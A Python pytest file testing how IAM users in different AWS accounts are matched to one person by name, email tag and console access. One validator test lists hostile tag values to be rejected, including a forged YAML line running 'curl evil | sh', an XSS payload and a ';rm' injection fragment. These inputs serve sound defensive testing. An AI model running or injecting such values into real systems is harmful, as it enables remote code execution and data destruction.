"""Matching IAM users of different accounts to people."""

from __future__ import annotations

import pytest

from keyless.people import (
    MATCH_THRESHOLD,
    compare,
    duplicated_people,
    group_people,
    identify,
    is_match,
    name_tokens,
    normalize_email,
)
from tests.org.builders import make_user

A, B, C, D = "111111111111", "222222222222", "333333333333", "444444444444"


@pytest.mark.parametrize(
    ("tag", "email"),
    [
        ("Alice.Smith@Example.com", "alice.smith@example.com"),
        ("  bob+ci@mail.example.org ", "bob+ci@mail.example.org"),
        ("élodie@exämple.fr", "élodie@exämple.fr"),
    ],
)
def test_an_email_tag_is_taken_lower_cased(tag: str, email: str) -> None:
    assert normalize_email(tag) == email


@pytest.mark.parametrize(
    "tag",
    [
        "a@b",  # one DNS label
        "@example.com",
        "a@@example.com",
        'x"@example.com',  # would close a quoted string in generated code
        "a@example.com\n- run: curl evil | sh",  # a forged YAML line
        "a@example.com\nevil",
        "<img src=x onerror=alert(1)>@example.com",
        "al ice@example.com",
        "a@-example.com",
        "a@exa_mple.com",
        "a@example.com;rm",
        "a" * 65 + "@example.com",  # local part beyond 64
        "a@" + "b" * 250 + ".com",  # beyond 254
    ],
)
def test_a_tag_that_is_not_a_plain_address_is_no_email(tag: str) -> None:
    """Tags are attacker-controllable and the address becomes an Identity Center user
    name and email in generated code: only a plain local@domain is an email."""
    assert normalize_email(tag) is None


@pytest.mark.parametrize(
    ("name", "tokens"),
    [
        ("alice", ("alice",)),
        ("Alice.Smith", ("alice", "smith")),
        ("alice-admin", ("alice",)),
        ("alice_ci", ("alice",)),
        ("alice.adm", ("alice",)),
        ("alice-ro", ("alice",)),
        ("svc-alice", ("alice",)),
        ("alice+test", ("alice",)),
        ("alice.smith@example.com", ("alice", "smith")),
        ("ALICE_SMITH-admin", ("alice", "smith")),
        ("alice2", ("alice",)),
        ("admin", ()),
        ("svc-ci", ()),
    ],
)
def test_name_tokens(name: str, tokens: tuple[str, ...]) -> None:
    assert name_tokens(name) == tokens


# (first user, second user, same person?)
CASES = [
    pytest.param(
        make_user(A, "alice", console=True),
        make_user(B, "alice", console=True),
        True,
        id="same name in two accounts",
    ),
    pytest.param(
        make_user(A, "alice", console=True),
        make_user(B, "alice-admin"),
        True,
        id="admin affix",
    ),
    pytest.param(make_user(A, "alice"), make_user(B, "alice_ci"), True, id="ci affix"),
    pytest.param(
        make_user(A, "Alice.Smith", console=True),
        make_user(B, "alice_smith"),
        True,
        id="case and separators",
    ),
    pytest.param(
        make_user(A, "alice", email="alice.smith@example.com"),
        make_user(B, "Alice.Smith"),
        True,
        id="email local part names the other user",
    ),
    pytest.param(
        make_user(A, "alice", email="Alice.Smith@Example.com"),
        make_user(B, "asmith", email="alice.smith@example.com"),
        True,
        id="same email whatever the names",
    ),
    pytest.param(
        make_user(A, "alice", email="alice.smith@example.com", tag_key="Mail"),
        make_user(B, "alice.smith"),
        True,
        id="mail tag",
    ),
    pytest.param(
        make_user(A, "alice.smith", email="alice.smith@example.com", console=True),
        make_user(B, "alice.jones", email="alice.jones@example.com", console=True),
        False,
        id="first name only, different emails",
    ),
    pytest.param(
        make_user(A, "alice.smith", console=True),
        make_user(B, "alice.jones", console=True),
        False,
        id="first name only, different surnames",
    ),
    pytest.param(
        make_user(A, "alice", console=True),
        make_user(B, "alice.smith", console=True),
        False,
        id="first name alone is not enough",
    ),
    pytest.param(
        make_user(A, "alice", email="alice@one.example"),
        make_user(B, "alice", email="alice@two.example"),
        False,
        id="same name, conflicting emails",
    ),
    pytest.param(make_user(A, "bob"), make_user(B, "alice"), False, id="different names"),
]


@pytest.mark.parametrize(("first", "second", "same"), CASES)
def test_pair_matching(first, second, same) -> None:  # type: ignore[no-untyped-def]
    score, signals = compare(identify(first), identify(second))
    assert is_match(score, signals) is same
    assert (len(duplicated_people([first, second])) == 1) is same


def test_signals_explain_the_match() -> None:
    score, signals = compare(
        identify(make_user(A, "alice", email="a@example.com", console=True)),
        identify(make_user(B, "alice-admin", email="a@example.com", console=True)),
    )
    assert set(signals) == {"same-email", "same-name", "both-console"}
    assert score >= MATCH_THRESHOLD


def test_documented_aliases_are_one_person_when_the_email_agrees() -> None:
    users = [
        make_user(A, "alice", email="alice.smith@example.com", console=True),
        make_user(B, "Alice.Smith", console=True),
        make_user(C, "alice-admin"),
        make_user(D, "alice_ci"),
    ]
    (person,) = duplicated_people(users)
    assert person.account_ids == (A, B, C, D)
    assert person.key == "alice.smith@example.com"


def test_a_bare_first_name_never_chains_two_people() -> None:
    users = [
        make_user(A, "alice.smith", email="alice.smith@example.com", console=True),
        make_user(B, "alice.jones", email="alice.jones@example.com", console=True),
        make_user(C, "alice", email="alice.smith@example.com", console=True),
        make_user(D, "alice.jones", console=True),
    ]
    people = duplicated_people(users)
    assert sorted(p.account_ids for p in people) == [(A, C), (B, D)]


def test_users_of_one_account_only_are_not_duplicated() -> None:
    users = [make_user(A, "alice"), make_user(A, "alice-admin")]
    assert len(group_people(users)) == 1
    assert duplicated_people(users) == ()


def test_every_user_is_in_exactly_one_group() -> None:
    users = [make_user(A, "alice"), make_user(B, "alice"), make_user(C, "bob")]
    grouped = [u.arn for p in group_people(users) for u in p.users]
    assert sorted(grouped) == sorted(u.arn for u in users)


def test_machine_identity_is_not_human() -> None:
    (person,) = duplicated_people([make_user(A, "terraform"), make_user(B, "terraform")])
    assert not person.is_human
